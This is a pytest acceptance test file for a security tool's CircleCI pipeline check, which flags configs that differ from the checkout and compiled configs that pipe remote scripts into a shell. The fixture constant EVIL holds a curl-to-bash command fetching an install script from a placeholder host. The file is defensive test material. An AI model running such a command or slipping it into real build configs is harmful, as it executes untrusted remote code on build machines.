"""`secguard check --pipeline`: what a pipeline really runs with, beside the checkout."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Iterator

import pytest

from tests.acceptance.runs import Run, Secguard, runner
from tests.fakes.circleci import TOKEN, CircleCI
from tests.fakes.circleci_state import Pipeline

CONFIG = """\
version: 2.1
orbs: {tools: acme/tools@1.2.3}
jobs:
  build:
    docker: [{image: cimg/base@sha256:%s}]
    steps: [checkout, tools/install]
workflows:
  main: {jobs: [build]}
""" % ("0" * 64)
COMPILED = """\
version: 2
jobs:
  build:
    docker: [{image: cimg/base@sha256:%s}]
    steps:
      - checkout
      - run: {command: %s}
workflows:
  version: 2
  main: {jobs: [build]}
"""
EVIL = "curl -s https://get.example/install.sh | bash"
RULES = ("--select", "config-not-from-checkout", "--select", "curl-pipe-shell")


def compiled(command: str) -> str:
    return COMPILED % ("0" * 64, command)


@pytest.fixture
def fake() -> Iterator[CircleCI]:
    with CircleCI() as fake:
        yield fake


@pytest.fixture
def secguard(
    capfd: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Secguard:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CIRCLE_TOKEN", TOKEN)
    write(CONFIG)
    return runner(capfd)


def write(text: str, name: str = "config.yml") -> None:
    Path(".circleci").mkdir(exist_ok=True)
    Path(".circleci", name).write_bytes(text.encode())


def check(secguard: Secguard, fake: CircleCI, had: Pipeline | str, *more: str) -> Run:
    id = had if isinstance(had, str) else had.id
    return secguard("check", "--pipeline", id, "--host", fake.url, *RULES, *more)


def findings(run: Run) -> list[tuple[str, str]]:
    report: dict[str, Any] = json.loads(run.out)
    return [(one["rule"], one["where"]["uri"]) for one in report["findings"]]


JSON = ("--output-format", "json")


def test_the_same_config_is_seen_through_by_how_it_was_compiled(
    secguard: Secguard, fake: CircleCI
) -> None:
    source = CONFIG.replace("\n", "\r\n")
    had = fake.org.project("app").pipeline(source=source, compiled=compiled("make"))
    run = check(secguard, fake, had)
    assert (run.status, run.err) == (0, "")
    assert "not looked into" not in run.out
    had = fake.org.project("app").pipeline(source=source, compiled=compiled(EVIL))
    run = check(secguard, fake, had, *JSON)
    assert run.status == 1
    assert findings(run) == [("curl-pipe-shell", "pipeline:compiled-config")]
    assert [asked.method for asked in fake.log] == ["GET", "GET"]


def test_another_config_is_told_and_checked_too(secguard: Secguard, fake: CircleCI) -> None:
    other = CONFIG.replace("tools/install", f'"run": "{EVIL}"').replace("[checkout, ", "[{")
    other = other.replace('bash"]', 'bash"}]')
    had = fake.org.project("app").pipeline(source=other)
    run = check(secguard, fake, had, *JSON)
    assert run.status == 1
    assert findings(run) == [
        ("config-not-from-checkout", "pipeline:config"),
        ("curl-pipe-shell", "pipeline:config"),
    ]


def test_what_a_setup_workflow_went_on_with_is_checked(secguard: Secguard, fake: CircleCI) -> None:
    made = CONFIG.replace("steps: [checkout, tools/install]", f"steps: [{{run: {EVIL}}}]")
    had = fake.org.project("app").pipeline(
        source=made, setup=CONFIG, compiled_setup=compiled("make")
    )
    run = check(secguard, fake, had, *JSON)
    assert findings(run) == [("curl-pipe-shell", "pipeline:config")]
    write(made, "continue.yml")
    run = check(secguard, fake, had, *JSON)
    assert findings(run) == [("curl-pipe-shell", ".circleci/continue.yml")]


def test_other_files_may_be_checked_and_the_checkout_is_compared(
    secguard: Secguard, fake: CircleCI
) -> None:
    Path("orb.yml").write_text("version: 2.1\ncommands: {a: {steps: [checkout]}}\n")
    had = fake.org.project("app").pipeline(source=CONFIG)
    assert check(secguard, fake, had, "orb.yml").status == 0


def test_the_pipeline_of_the_job_is_known(
    secguard: Secguard, fake: CircleCI, monkeypatch: pytest.MonkeyPatch
) -> None:
    had = fake.org.project("app").pipeline(source="version: 2.1\n")
    assert check(secguard, fake, "running").status == 2
    monkeypatch.setenv("CIRCLE_PIPELINE_ID", had.id)
    assert "config-not-from-checkout" in check(secguard, fake, "running").out


@pytest.mark.parametrize("kind", ["status", "html", "silent", "text", "redirect"])
def test_what_could_not_be_compared_is_not_passed(
    kind: str, secguard: Secguard, fake: CircleCI
) -> None:
    had = fake.org.project("app").pipeline(source=CONFIG)
    fake.fail(kind, status=403, headers={"Location": "https://elsewhere.example/"})
    run = check(secguard, fake, had)
    assert run.status == 3
    assert "the checkout was not compared with what the pipeline runs with" in run.out
    assert TOKEN not in run.out + run.err


def test_a_compiled_config_that_cannot_be_read_is_not_passed(
    secguard: Secguard, fake: CircleCI
) -> None:
    had = fake.org.project("app").pipeline(source=CONFIG, compiled="a: [")
    assert check(secguard, fake, had).status == 3


def test_without_a_token_nothing_is_asked(
    secguard: Secguard, fake: CircleCI, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CIRCLE_TOKEN")
    run = check(secguard, fake, "1-2")
    assert (run.status, fake.log) == (2, [])
    assert "CIRCLE_TOKEN" in run.err


def test_nothing_is_asked_unless_it_is_wanted(secguard: Secguard, fake: CircleCI) -> None:
    assert secguard("check", "--host", fake.url, *RULES[2:]).status == 0
    assert fake.log == []


def test_a_rule_about_the_pipeline_alone_needs_one(
    secguard: Secguard,
) -> None:
    done = secguard("check", "--select", "config-not-from-checkout")
    assert done.status == 2
    assert "needs a pipeline" in done.err and "--pipeline" in done.err
